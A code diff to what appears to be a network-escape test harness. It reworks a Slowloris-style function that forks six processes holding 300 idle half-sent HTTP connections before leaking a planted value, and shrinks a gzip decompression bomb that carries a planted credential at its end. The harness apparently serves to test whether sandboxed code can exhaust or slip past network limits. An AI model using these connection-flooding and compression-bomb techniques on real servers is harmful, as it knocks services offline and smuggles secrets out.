@@ -17,7 +17,7 @@ from typing import Any
 
 from netns.escapes.task import Task
 
-_SECONDS = 3.0
+_SECONDS = 2.0
 
 
 def _where(task: Task, name: str) -> str:
@@ -129,25 +129,38 @@ def over_requests(task: Task) -> str:
 
 
 def crowd(task: Task) -> str:
-    """Three hundred connections that say nothing, then a leak."""
+    """Three hundred connections that say nothing, from six processes, then a leak."""
     dial, port = task.args["dial"], task.args.get("port", 80)
-    idle = []
-    for _ in range(300):
-        with contextlib.suppress(OSError):
-            end = socket.create_connection((dial, port), 1)
-            end.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
-            idle.append(end)
+    read_end, write_end = os.pipe()
+    children = []
+    for _ in range(6):
+        child = os.fork()
+        if child == 0:
+            idle = []
+            for _ in range(50):
+                with contextlib.suppress(OSError):
+                    end = socket.create_connection((dial, port), 0.5)
+                    end.sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
+                    idle.append(end)
+            os.write(write_end, f"{len(idle)} ".encode())
+            time.sleep(60)
+            os._exit(0)
+        children.append(child)
+    told = b""
+    while told.count(b" ") < len(children):
+        told += os.read(read_end, 100)
     try:
-        return f"{len(idle)} open; {say(task)}"
+        return f"{sum(map(int, told.split()))} open; {say(task)}"
     finally:
-        for end in idle:
-            end.close()
+        for child in children:
+            os.kill(child, 9)
+            os.waitpid(child, 0)
 
 
 def bomb(task: Task) -> str:
     """A body that grows a thousandfold, with a credential at its end."""
     note = f"note={task.world['planted']}".encode()
-    body = gzip.compress(b"\0" * (64 << 20) + note, 1)
+    body = gzip.compress(b"\0" * (24 << 20) + note, 1)
     with _connect(task) as end:
         head = _filled(task, task.args["text"])
         end.sendall(head + f"Content-Length: {len(body)}\r\n\r\n".encode())
